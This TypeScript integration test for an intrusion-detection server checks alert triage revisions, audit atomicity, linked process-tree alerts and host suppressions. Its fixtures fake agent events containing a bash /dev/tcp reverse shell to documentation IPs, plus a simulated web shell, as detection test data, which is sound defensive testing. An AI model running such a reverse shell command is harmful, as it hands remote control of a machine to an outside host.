// hades-test: shares the machine
/**
 * Alert triage against a real server in this process, with agents that connect over mutual TLS:
 * - optimistic concurrency: the ETag of an alert, If-Match on PATCH, 412 HADES_ERR_ALERT_CHANGED
 *   when a colleague triaged it since, and `hades alerts triage --revision`;
 * - a triage and its audit record are one write: when the audit log refuses the record (a
 *   trigger put on the server's database file from another connection), the triage is undone;
 * - host-scoped suppressions go by the agent the certificate names and the host name it enrolled
 *   with, not by the `host.name` its events (or its hellos) claim.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import Database from 'better-sqlite3';
import type { AnyEvent } from '../helpers/agent.js';
import { runHades } from '../helpers/cli.js';
import { cleanupTempDirs, GatewayStream, identityCredentials, makeCsr, makeEvents, ndjson, tempDir, TestServer, waitUntil } from '../helpers/server.js';

const dir = tempDir('hades-triage-');
let server: TestServer;
let configFile: string;
const tag = randomBytes(4).toString('hex');

before(async () => {
  server = await TestServer.start({ dataDir: path.join(dir, 'data') });
  configFile = path.join(dir, 'server.yaml');
  server.writeCliConfig(configFile);
});
after(async () => {
  await server?.stop();
  cleanupTempDirs();
});

interface EnrolledAgent {
  readonly agentId: string;
  readonly credentials: ReturnType<typeof identityCredentials>;
}

/** Enrolls an agent as `hostname` through the enrollment API, as the agent does. */
async function enrollAs(hostname: string): Promise<EnrolledAgent> {
  const { token } = (await server.ok('POST', '/api/v1/tokens/enrollment', { body: { ttl: '1h' } })) as { token: string };
  const { csrPem, keyPem } = await makeCsr(hostname);
  const enrolled = (await server.ok('POST', '/api/v1/enroll', { token: null, body: { token, csr: csrPem, hostname } })) as { agent_id: string; certificate: string };
  return { agentId: enrolled.agent_id, credentials: identityCredentials({ caPem: server.caPem, keyPem, certPem: enrolled.certificate }) };
}

let batches = 0;
/** Sends one reverse shell event whose host.name is `claimed`, after a hello that claims `hello`. */
async function sendShell(agent: EnrolledAgent, claimed: string, hello: string, ip: string): Promise<void> {
  const stream = new GatewayStream(server.addresses.gateway, agent.credentials);
  try {
    stream.hello(hello);
    await stream.welcome();
    const shell = `bash -i >& /dev/tcp/${ip}/4444 0>&1`;
    const events = makeEvents(1, {
      action: 'exec',
      prefix: `triage-${tag}-${++batches}`,
      host: claimed,
      extra: (event) => {
        const args = ['bash', '-c', shell];
        event['process'] = { ...event['process'], name: 'bash', executable: '/usr/bin/bash', args, args_count: args.length, command_line: args.join(' ') };
      },
    });
    const ack = await stream.batch(ndjson(events), batches, 1);
    assert.equal(ack.ack?.stored, 1, JSON.stringify(ack));
  } finally {
    stream.close();
  }
}

const alertsOf = async (agentId: string): Promise<AnyEvent[]> => ((await server.ok('GET', '/api/v1/alerts', { query: { since: '10m', host: agentId, limit: 1000 } })) as { alerts: AnyEvent[] }).alerts;

async function raiseAlert(agent: EnrolledAgent, hostname: string, ip: string): Promise<string> {
  await sendShell(agent, hostname, hostname, ip);
  const found = await waitUntil(`the alert about ${ip}`, async () => (await alertsOf(agent.agentId)).find((a) => JSON.stringify(a).includes(`/dev/tcp/${ip}/`)));
  return found['id'] as string;
}

async function analyst(name: string): Promise<string> {
  return ((await server.ok('POST', '/api/v1/tokens/api', { body: { name, role: 'analyst' } })) as { token: string }).token;
}

describe('alert triage with revisions (ETag and If-Match)', () => {
  let alertId: string;
  before(async () => {
    const hostname = `triage-etag-${tag}`;
    alertId = await raiseAlert(await enrollAs(hostname), hostname, '198.51.100.11');
  });

  it('a stale triage is refused with 412 HADES_ERR_ALERT_CHANGED instead of overwriting a colleague\'s', async () => {
    const ana = await analyst('ana');
    const bo = await analyst('bo');
    // Both read the alert.
    const read = await server.api('GET', `/api/v1/alerts/${alertId}`, { token: ana });
    assert.equal(read.status, 200);
    assert.equal(read.headers.etag, '"1"');
    assert.equal(read.body.revision, 1);
    const etag = read.headers.etag;
    // Ana triages first.
    const first = await server.api('PATCH', `/api/v1/alerts/${alertId}`, { token: ana, body: { status: 'acknowledged', assignee: 'ana' }, headers: { 'if-match': etag } });
    assert.equal(first.status, 200, first.text);
    assert.equal(first.headers.etag, '"2"');
    assert.equal(first.body.revision, 2);
    // Bo, from the same read, is told it changed: nothing of his is written.
    const second = await server.api('PATCH', `/api/v1/alerts/${alertId}`, { token: bo, body: { status: 'false_positive', assignee: 'bo' }, headers: { 'if-match': etag } });
    assert.equal(second.status, 412, second.text);
    assert.equal(second.body.code, 'HADES_ERR_ALERT_CHANGED');
    assert.deepEqual(second.body.details, { revision: 2, etag: '"2"', status: 'acknowledged', assignee: 'ana' });
    const now = await server.ok('GET', `/api/v1/alerts/${alertId}`);
    assert.deepEqual([now.status, now.assignee, now.revision], ['acknowledged', 'ana', 2], 'Ana\'s triage stands');
    // A weak tag never matches (If-Match compares strongly); a list matches by any of its tags; * by any revision.
    assert.equal((await server.api('PATCH', `/api/v1/alerts/${alertId}`, { token: bo, body: { assignee: 'bo' }, headers: { 'if-match': 'W/"2"' } })).status, 412);
    const listed = await server.api('PATCH', `/api/v1/alerts/${alertId}`, { token: bo, body: { assignee: 'bo' }, headers: { 'if-match': '"1", "2"' } });
    assert.equal(listed.status, 200, listed.text);
    assert.equal((await server.api('PATCH', `/api/v1/alerts/${alertId}`, { token: bo, body: { assignee: 'ana' }, headers: { 'if-match': '*' } })).headers.etag, '"4"');
    // Without If-Match the last triage wins, as before.
    const blind = await server.api('PATCH', `/api/v1/alerts/${alertId}`, { token: bo, body: { status: 'resolved' } });
    assert.equal(blind.status, 200, blind.text);
    assert.equal(blind.body.revision, 5);
    // A header that is not an entity tag (quotes left out) is a 400 that says how to write it.
    const unquoted = await server.api('PATCH', `/api/v1/alerts/${alertId}`, { token: bo, body: { status: 'resolved' }, headers: { 'if-match': '5' } });
    assert.equal(unquoted.status, 400, unquoted.text);
    assert.equal(unquoted.body.code, 'HADES_ERR_API_INVALID_REQUEST');
    assert.match(unquoted.body.message, /If-Match: "3"/);
    // An unknown alert is a 404 whatever the revision.
    assert.equal((await server.api('PATCH', '/api/v1/alerts/00000000-0000-0000-0000-000000000000', { token: bo, body: { status: 'resolved' }, headers: { 'if-match': '"1"' } })).status, 404);
    // Every triage that was made is audited with the revision it made, the refused ones not at all.
    const { entries } = (await server.ok('GET', '/api/v1/audit', { query: { since: '10m', limit: 1000 } })) as { entries: AnyEvent[] };
    const triages = entries.filter((e) => e['action'] === 'alert.triage' && e['target'] === alertId).reverse();
    assert.deepEqual(triages.map((e) => [e['actor'], e['details'].revision]), [['ana', 2], ['bo', 3], ['bo', 4], ['bo', 5]]);
    assert.deepEqual(triages[0]?.['details'].from, { status: 'new', assignee: null });
    // The OpenAPI document lists the 412.
    const openapi = (await server.ok('GET', '/api/v1/openapi.json')) as AnyEvent;
    assert.ok(openapi['paths']['/api/v1/alerts/{id}'].patch.responses['412']);
  });

  it('hades alerts show prints the revision and hades alerts triage --revision sends it as If-Match', async () => {
    const run = (...args: string[]) => runHades(['alerts', ...args, '--config', configFile]);
    const shown = await run('show', alertId);
    assert.equal(shown.status, 0, shown.stderr);
    assert.match(shown.stdout, /; revision 5$/m);
    const stale = await run('triage', alertId, '--status', 'acknowledged', '--revision', '4');
    assert.equal(stale.status, 2, stale.stderr);
    assert.match(stale.stderr, /HADES_ERR_ALERT_CHANGED: .*revision 5/);
    assert.equal((await server.ok('GET', `/api/v1/alerts/${alertId}`)).status, 'resolved', 'nothing changed');
    const fresh = await run('triage', alertId, '--status', 'acknowledged', '--revision', '5');
    assert.equal(fresh.status, 0, fresh.stderr);
    assert.match(fresh.stdout, /\sacknowledged\s/);
    const bad = await run('triage', alertId, '--status', 'resolved', '--revision', 'latest');
    assert.equal(bad.status, 2);
    assert.match(bad.stderr, /HADES_ERR_CLI_INVALID_ARGUMENT: --revision/);
  });

  it('an alert\'s triage history (who set what, when) is in GET /api/v1/alerts/ID for every role, and hades alerts show prints it with the events', async () => {
    const { token: readOnly } = (await server.ok('POST', '/api/v1/tokens/api', { body: { name: 'night-viewer', role: 'read-only' } })) as { token: string };
    const read = await server.api('GET', `/api/v1/alerts/${alertId}`, { token: readOnly });
    assert.equal(read.status, 200, read.text);
    const history = read.body.history as AnyEvent[];
    assert.deepEqual(
      history.map((h) => [h['actor'], h['status'], h['assignee'], h['from']?.status, h['revision']]),
      [
        ['ana', 'acknowledged', 'ana', 'new', 2],
        ['bo', undefined, 'bo', 'acknowledged', 3],
        ['bo', undefined, 'ana', 'acknowledged', 4],
        ['bo', 'resolved', undefined, 'acknowledged', 5],
        ['bootstrap-admin', 'acknowledged', undefined, 'resolved', 6],
      ],
    );
    assert.ok(history.every((h) => typeof h['time'] === 'string'));
    const shown = await runHades(['alerts', 'show', alertId, '--config', configFile]);
    assert.equal(shown.status, 0, shown.stderr);
    assert.match(shown.stdout, /^ {2}triage: +\S+ ana: new -> acknowledged, assigned to ana \(revision 2\)$/m);
    assert.match(shown.stdout, /^ {2}triage: +\S+ bootstrap-admin: resolved -> acknowledged \(revision 6\)$/m);
    // Why it fired: the triggering event on its line, and where to look around it.
    assert.match(shown.stdout, /^ {4}\S+ +\S+ +exec +bash\(\d+\) +bash -c bash -i >& \/dev\/tcp\/198\.51\.100\.11\/4444 0>&1/m);
    assert.match(shown.stdout, /^ {2}around: +hades search --host ag_[0-9a-f]+ --since \S+Z --until \S+Z$/m);
  });
});

describe('alerts about one process tree are linked', () => {
  it('a web shell\'s shell and the reverse shell it started are each other\'s related alerts in GET /api/v1/alerts/ID and hades alerts show', async () => {
    const hostname = `tree-${tag}`;
    const agent = await enrollAs(hostname);
    const php = { pid: 812, entity_id: `${tag}-812-100`, name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2' };
    const sh = { pid: 4100, entity_id: `${tag}-4100-200`, name: 'sh', executable: '/usr/bin/dash' };
    const ip = '198.51.100.23';
    const steps: [typeof sh, typeof php[], string[]][] = [
      [sh, [php], ['sh', '-c', 'id; uname -a']],
      [{ pid: 4101, entity_id: `${tag}-4101-300`, name: 'bash', executable: '/usr/bin/bash' }, [sh, php], ['bash', '-c', `bash -i >& /dev/tcp/${ip}/4444 0>&1`]],
    ];
    const events = makeEvents(steps.length, {
      action: 'exec',
      prefix: `tree-${tag}`,
      host: hostname,
      extra: (event, i) => {
        const [process, lineage, args] = steps[i]!;
        event['process'] = { ...event['process'], ...process, args, args_count: args.length, command_line: args.join(' '), parent: lineage[0] };
        event['hades'] = { ...event['hades'], ancestors: lineage, ancestry: [process, ...lineage].map((p) => `${p.name}(${p.pid})`).join(' < ') };
      },
    });
    const stream = new GatewayStream(server.addresses.gateway, agent.credentials);
    try {
      stream.hello(hostname);
      await stream.welcome();
      const ack = await stream.batch(ndjson(events), ++batches, 1);
      assert.equal(ack.ack?.stored, 2, JSON.stringify(ack));
    } finally {
      stream.close();
    }
    const [webshell, reverse] = await waitUntil('both alerts', async () => {
      const alerts = await alertsOf(agent.agentId);
      const web = alerts.find((a) => a['rule'].id === 'server_process_spawned_shell');
      const rev = alerts.find((a) => a['rule'].id !== 'server_process_spawned_shell' && JSON.stringify(a['events']).includes(`/dev/tcp/${ip}/`));
      return web && rev ? [web, rev] : undefined;
    });
    const read = (await server.ok('GET', `/api/v1/alerts/${webshell['id']}`)) as { related: AnyEvent[] };
    assert.deepEqual(
      read.related.filter((r) => r['id'] === reverse['id']).map((r) => [r['relation'], r['process']]),
      [['downstream', { entity_id: sh.entity_id, pid: sh.pid, name: 'sh' }]],
      JSON.stringify(read.related),
    );
    const back = (await server.ok('GET', `/api/v1/alerts/${reverse['id']}`)) as { related: AnyEvent[] };
    assert.ok(back.related.some((r) => r['id'] === webshell['id'] && r['relation'] === 'upstream'), JSON.stringify(back.related));
    const shown = await runHades(['alerts', 'show', reverse['id'], '--config', configFile]);
    assert.equal(shown.status, 0, shown.stderr);
    assert.match(shown.stdout, new RegExp(`^ {2}related: +${webshell['id']} \\S+ high server_process_spawned_shell \\[new\\] its process started this one's: sh\\(4100\\): `, 'm'));
  });
});

describe('a triage and its audit record are one write', () => {
  it('when the audit log refuses the record, the triage is undone; once it takes records again, both are written', async () => {
    const hostname = `triage-audit-${tag}`;
    const alertId = await raiseAlert(await enrollAs(hostname), hostname, '198.51.100.12');
    const audited = async () => ((await server.ok('GET', '/api/v1/audit', { query: { since: '10m', limit: 1000 } })) as { entries: AnyEvent[] }).entries.filter((e) => e['target'] === alertId);
    // Another connection to the server's database makes every audit insert fail.
    const db = new Database(path.join(server.dataDir, 'hades.db'));
    try {
      db.exec("CREATE TRIGGER test_audit_refused BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'the audit log refuses writes (test)'); END");
      const refused = await server.api('PATCH', `/api/v1/alerts/${alertId}`, { body: { status: 'resolved', assignee: 'ana' } });
      assert.ok(refused.status >= 500, `HTTP ${refused.status} ${refused.text}`);
      assert.match(refused.body.code, /^HADES_ERR_/);
      const comment = await server.api('POST', `/api/v1/alerts/${alertId}/comments`, { body: { text: 'unaudited' } });
      assert.ok(comment.status >= 500, `HTTP ${comment.status} ${comment.text}`);
      const unchanged = await server.ok('GET', `/api/v1/alerts/${alertId}`);
      assert.deepEqual([unchanged.status, unchanged.assignee, unchanged.revision, unchanged.comments.length], ['new', null, 1, 0], 'no triage and no comment without their records');
      db.exec('DROP TRIGGER test_audit_refused');
    } finally {
      db.close();
    }
    assert.deepEqual(await audited(), [], 'no record without its change either');
    const done = await server.api('PATCH', `/api/v1/alerts/${alertId}`, { body: { status: 'resolved', assignee: 'ana' } });
    assert.equal(done.status, 200, done.text);
    const records = await audited();
    assert.deepEqual(records.map((e) => [e['action'], e['details'].revision, e['details'].status]), [['alert.triage', 2, 'resolved']]);
  });
});

describe('host-scoped suppressions go by the agent the server knows', () => {
  it('an agent whose events claim another host\'s name is not silenced by that host\'s suppression, and the host itself is under any name', async () => {
    const nameA = `triage-host-a-${tag}`;
    const nameB = `triage-host-b-${tag}`;
    const a = await enrollAs(nameA);
    const b = await enrollAs(nameB);
    const enrolled = await server.ok('GET', `/api/v1/agents/${b.agentId}`);
    assert.equal(enrolled.enrolled_hostname, nameB);
    const suppression = (await server.ok('POST', '/api/v1/suppressions', { body: { rule: '*', host: nameB, for: '1h', reason: 'B is a lab host' } })) as AnyEvent;
    // Root on A names itself B, in its hello and in its events.
    await sendShell(a, nameB, nameB, '198.51.100.21');
    const raised = await waitUntil('A\'s alert', async () => (await alertsOf(a.agentId)).find((x) => JSON.stringify(x).includes('/dev/tcp/198.51.100.21/')));
    assert.equal(raised['host'].id, a.agentId);
    assert.equal((await server.ok('GET', `/api/v1/agents/${a.agentId}`)).enrolled_hostname, nameA, 'a hello does not change the enrolled name');
    // B, under another name (in its hello and events), is still silenced by its suppression.
    await sendShell(b, 'somewhere-else', 'somewhere-else', '198.51.100.22');
    await waitUntil('the suppression\'s hit', async () => ((await server.ok('GET', '/api/v1/suppressions')) as { suppressions: AnyEvent[] }).suppressions.find((s) => s['id'] === suppression['id'] && s['hits'] === 1));
    assert.deepEqual(await alertsOf(b.agentId), [], 'B raised nothing');
    // An agent id names the host too, as before.
    await server.ok('DELETE', `/api/v1/suppressions/${suppression['id']}`);
    const byId = (await server.ok('POST', '/api/v1/suppressions', { body: { rule: '*', host: a.agentId, for: '1h', reason: 'by id' } })) as AnyEvent;
    await sendShell(a, nameA, nameA, '198.51.100.23');
    await waitUntil('the hit by agent id', async () => ((await server.ok('GET', '/api/v1/suppressions')) as { suppressions: AnyEvent[] }).suppressions.find((s) => s['id'] === byId['id'] && s['hits'] === 1));
    assert.ok(!(await alertsOf(a.agentId)).some((x) => JSON.stringify(x).includes('/dev/tcp/198.51.100.23/')));
  });

  it('a suppression for a host no agent enrolled as (nor has as its id) is refused with the closest name, as it would silence nothing', async () => {
    const name = `triage-typo-${tag}`;
    const agent = await enrollAs(name);
    const typo = await server.api('POST', '/api/v1/suppressions', { body: { rule: 'reverse_shell_dev_tcp', host: `${name}x`, for: '1h', reason: 'typo' } });
    assert.equal(typo.status, 400, typo.text);
    assert.equal(typo.body.code, 'HADES_ERR_API_INVALID_REQUEST');
    assert.match(typo.body.message, new RegExp(`no agent enrolled with the name '${name}x'.*did you mean '${name}'`));
    // A name the host gives itself now (its hello), not the one it enrolled with: said so.
    await sendShell(agent, name, `renamed-${tag}`, '198.51.100.24');
    const renamed = await server.api('POST', '/api/v1/suppressions', { body: { rule: 'reverse_shell_dev_tcp', host: `renamed-${tag}`, for: '1h', reason: 'renamed' } });
    assert.equal(renamed.status, 400, renamed.text);
    assert.match(renamed.body.message, new RegExp(`agent ${agent.agentId} calls itself 'renamed-${tag}' but enrolled as '${name}'`));
    const cli = await runHades(['alerts', 'suppress', '--rule', 'reverse_shell_dev_tcp', '--host', `${name}x`, '--for', '1h', '--reason', 'typo', '--config', configFile]);
    assert.equal(cli.status, 2);
    assert.match(cli.stderr, /HADES_ERR_API_INVALID_REQUEST: host: no agent enrolled/);
    const suppressions = ((await server.ok('GET', '/api/v1/suppressions')) as { suppressions: AnyEvent[] }).suppressions;
    assert.ok(!suppressions.some((s) => s['reason'] === 'typo' || s['reason'] === 'renamed'), 'nothing was made');
  });
});
